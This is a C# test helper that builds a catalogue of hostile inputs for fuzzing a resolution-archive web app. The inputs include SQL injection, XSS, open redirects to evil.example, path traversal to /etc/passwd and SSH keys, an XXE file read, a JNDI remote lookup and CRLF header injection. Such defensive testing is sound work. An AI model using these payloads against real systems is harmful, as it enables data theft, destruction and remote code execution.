namespace ResolutionArchive.Web.Tests.Infrastructure;

/// <summary>
/// The hostile strings, each with a name and its form on the wire (<c>Raw</c>: percent-encoded, or deliberately
/// broken encoding sent as it is). Text is encoded with <see cref="Uri.EscapeDataString(string)"/>; the byte-level
/// tricks (lone surrogates, overlong UTF-8, invalid escapes, CRLF) are written out.
/// </summary>
internal static class HostileStrings
{
    /// <summary>Every string: (name, raw form for a query value or a path segment).</summary>
    public static IReadOnlyList<(string Name, string Raw)> All { get; } = Build().DistinctBy(s => s.Raw).ToList();

    /// <summary>Raw path forms only sensible in a path: dot segments and slashes as such, not encoded.</summary>
    public static IReadOnlyList<(string Name, string Raw)> PathOnly { get; } =
    [
        ("dot segments", "../../../../etc/passwd"),
        ("dot segments to the API", "../api/resolutions"),
        ("encoded dot segments", "%2E%2E/%2E%2E/etc/passwd"),
        ("double slash", "/"),
        ("many slashes", "a//b///c////d"),
        ("trailing dot", "A/HRC/RES/46/13."),
        ("backslashes", "..\\..\\windows\\win.ini"),
        ("a slash-separated key with spaces", "A/RES/76/235%20B"),
        ("semicolon path parameter", "A;jsessionid=1"),
        ("key with a query-looking part", "A%3Fq%3D1"),
        ("key with a fragment-looking part", "A%23top"),
    ];

    /// <summary>The value of the string as sent (for names only; the requests use <see cref="All"/>'s raw forms).</summary>
    private static IEnumerable<(string Name, string Raw)> Build()
    {
        static (string, string) Text(string name, string value) => (name, Uri.EscapeDataString(value));

        // SQL injection (SQLite, and FTS5 of the search index)
        foreach (var sql in new[]
        {
            "' OR '1'='1", "' OR 1=1 --", "\" OR \"\"=\"", "1; DROP TABLE Resolutions; --", "'); DELETE FROM SearchIndex; --",
            "1' UNION SELECT name, sql FROM sqlite_master --", "' AND randomblob(1000000000) --", "1 AND 1=CAST(x AS INT)",
            "admin'--", "%' AND 1=1 AND '%'='", "' || (SELECT load_extension('x')) || '", "1; ATTACH DATABASE '/tmp/x' AS x; --",
            "'; PRAGMA writable_schema=1; --", "\\'; SELECT 1; --", "' GLOB '*", "NEAR(a b, -1)", "\"\"\"", "a* OR b*",
            "{uni bi}: x", "^x", "a NOT b NOT c", "AND", "OR", "NOT", "' ESCAPE '\\", "1e309", "x' COLLATE NOCASE --",
        })
        {
            yield return Text("SQL " + sql, sql);
        }

        // cross-site scripting
        foreach (var xss in new[]
        {
            "<script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
            "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "\" autofocus onfocus=\"alert(1)",
            "' autofocus onfocus='alert(1)", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
            "<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<!--<script>alert(1)</script>-->",
            "<scr<script>ipt>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)",
            "\\u003cscript\\u003ealert(1)", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "`-alert(1)-`", "';alert(1);//",
            "\";alert(1);//", "</script><script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}", "<details open ontoggle=alert(1)>", "<input onfocus=alert(1) autofocus>",
        })
        {
            yield return Text("XSS " + xss, xss);
        }

        // script and foreign URLs, open redirects
        foreach (var url in new[]
        {
            "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "javascript://%0aalert(1)",
            "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            "//evil.example", "///evil.example", "/\\evil.example", "\\\\evil.example", "https://evil.example", "http:evil.example",
            "/%2F/evil.example", "/\t/evil.example", "//evil.example/%2E%2E", "https:/evil.example", "evil.example", "@evil.example",
            "/\\/evil.example", "/.//evil.example", "／／evil.example",
        })
        {
            yield return Text("URL " + url, url);
        }

        // path traversal and file names
        foreach (var path in new[]
        {
            "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "..%2F..%2Fetc%2Fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "file:///etc/passwd", "/proc/self/environ", "C:\\Windows\\System32", "\\\\?\\C:\\",
            "CON", "NUL", "aux.txt", "archive.db", "../App_Data/archive.db", "~/.ssh/id_rsa", "/dev/zero",
        })
        {
            yield return Text("path " + path, path);
        }

        // C0 control characters (the ones with a meaning in text, and a few without), DEL and C1 controls
        foreach (var c in new[] { 0x00, 0x01, 0x07, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1A, 0x1B, 0x1F })
        {
            yield return ($"control U+{c:X4}", $"%{c:X2}");
        }

        yield return ("DEL", "%7F");
        yield return ("C1 NEL", "%C2%85");
        yield return ("C1 CSI", "%C2%9B");
        yield return ("controls around a term", "%00%E4%BA%BA%07%E6%9D%83%1B%7F");
        yield return ("NUL then a valid value", "HRC%00");
        yield return ("valid value then NUL", "%00HRC");

        // Unicode tricks: bidi, invisible, normalisation, confusables, case folding
        foreach (var unicode in new[]
        {
            "\u202Egnp.exe", "\u202Bعربي\u202C", "\u2066x\u2069", "\u200B", "\u200BHRC", "HRC\u200B", "\u2060", "\uFEFF", "\uFEFFHRC",
            "ＳＥＬＥＣＴ", "ＨＲＣ", "ｈｒｃ", "ＧＡ", "４６", "２０２１", "٤٦", "४६", "①", "Ⅻ", "ﬁ", "e\u0301", "é", "K", "ſ", "İ", "ı",
            "ǅ", "ß", "Å", "\u3000", "\u00A0", "\u2028", "\u2029", "\u0085", "😀", "𠀀", "👨‍👩‍👧‍👦", "\U0010FFFF", "\uFFFD",
            "\uFFFE", "\uFFFF", "\uE000", "zh-Ｈａｎｓ", "еn", "ΕΝ", "人权", "人权 合作", "第四十六届会议",
        })
        {
            yield return Text("Unicode " + unicode, unicode);
        }

        // broken encodings, sent as they are
        foreach (var (name, raw) in new[]
        {
            ("invalid escape %ZZ", "%ZZ"), ("lone percent", "%"), ("two percents", "%%"), ("percent then one digit", "%4"),
            ("percent at the end of a term", "%E4%BA%BA%"), ("escaped percent", "%25"), ("double-encoded slash", "%252F%252F"),
            ("double-encoded script", "%253Cscript%253E"), ("truncated UTF-8", "%E4%BA"), ("truncated 4-byte UTF-8", "%F0%9F%98"),
            ("lone high surrogate", "%ED%A0%80"), ("lone low surrogate", "%ED%B0%80"), ("surrogate pair in CESU-8", "%ED%A0%BD%ED%B8%80"),
            ("overlong slash", "%C0%AF"), ("overlong NUL", "%C0%80"), ("overlong 3-byte", "%E0%80%AF"), ("above U+10FFFF", "%F4%90%80%80"),
            ("5-byte form", "%F8%88%80%80%80"), ("byte FF", "%FF"), ("byte FE", "%FE"), ("continuation byte alone", "%80"),
            ("Latin-1 é", "%E9"), ("IIS %u encoding", "%u0041"), ("IIS %u script", "%u003Cscript%u003E"), ("plus signs", "+++"),
            ("encoded plus", "%2B"), ("ampersand", "%26"), ("raw ampersand and equals", "a&b=c&=&&"), ("equals signs", "=%3D="),
            ("semicolon", ";x=1"), ("encoded hash", "%23top"), ("encoded question mark", "%3F"), ("raw question marks", "??"),
            ("CRLF header injection", "%0d%0aSet-Cookie:x=1"), ("CRLF response splitting", "%0D%0A%0D%0A%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
            ("LF header injection", "%0aLocation:%20https://evil.example"), ("CR alone", "%0d"), ("encoded space run", "%20%20%20"),
            ("raw tilde and stars", "~*~"), ("raw apostrophe", "'"), ("raw parentheses", "()"), ("raw brackets", "[]"),
            ("raw exclamation", "!"), ("raw dollar", "$"), ("raw comma list", "a,b,c"), ("raw colon", "a:b"), ("raw at", "@"),
        })
        {
            yield return ("raw " + name, raw);
        }

        // numbers
        foreach (var number in new[]
        {
            "0", "-0", "-1", "+1", " 1", "01", "00000000000000000001", "2147483647", "2147483648", "-2147483648",
            "9223372036854775808", "99999999999999999999", "999999999999999999999999999999999999999999999999", "1.5", "1,5",
            "1e3", "1E+308", "0x10", "1_000", "NaN", "Infinity", "½", "46.0", "1944", "9999", "0046",
        })
        {
            yield return Text("number " + number, number);
        }

        // format strings and template syntax
        foreach (var format in new[]
        {
            "{0}", "{0}{1}{2}{3}", "{", "}", "{{", "}}", "{-1}", "{99999999999}", "{0:X}", "%s%n", "%s%s%s%s%s", "%x%x%x", "%n%n%n",
            "%d", "%p", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "@(7*7)", "@{throw null;}",
        })
        {
            yield return Text("format " + format, format);
        }

        // JSON and XML fragments
        foreach (var fragment in new[]
        {
            "{\"a\":1}", "[1,2,3]", "{\"__proto__\":{\"x\":1}}", "\"", "\\", "\\\"", "null", "true", "undefined", "[]", "{}",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>",
            "<![CDATA[x]]>", "]]>", "<x/>", "&amp;", "&#0;", "&nbsp;", "-->", "<!--",
        })
        {
            yield return Text("fragment " + fragment, fragment);
        }

        // empty, white space, long
        yield return ("empty", "");
        foreach (var space in new[] { " ", "  ", "\t", "\r\n", "\n", " \u3000 ", "\u00A0\u00A0", "\u2003" })
        {
            yield return Text($"white space {string.Concat(space.Select(c => $"U+{(int)c:X4}"))}", space);
        }

        yield return ("10,000 ASCII letters", new string('a', 10_000));
        yield return ("10,000 Chinese characters", Uri.EscapeDataString(new string('权', 10_000)));
        yield return ("5,000 emoji", Uri.EscapeDataString(string.Concat(Enumerable.Repeat("😀", 5_000))));
        yield return ("10,000 digits", new string('9', 10_000));
        yield return ("10,000 percent-escapes of NUL", string.Concat(Enumerable.Repeat("%00", 3_333)));
        yield return ("2,000 terms", Uri.EscapeDataString(string.Join(' ', Enumerable.Range(0, 2_000).Select(i => (char)('一' + i)))));
        yield return ("1,000 slashes", Uri.EscapeDataString(new string('/', 1_000)));

        // values that look valid, in odd forms
        foreach (var value in new[]
        {
            "hrc", "HRC,GA", "HRC GA", "Body.HRC", "RECORDED", "-date", "en", "EN", "en-US", "zh-hans", "zh-Hant", "tlh-KX",
            "qps-ploc", "iv", "en;q=0.9", "0,1", "A/HRC/RES/46/13", "46/13", "43/...", "CHN", "chn", "ZZZ", "/", "/countries/CHN", "/人权", "/countries/人权",
        })
        {
            yield return Text("value " + value, value);
        }
    }
}
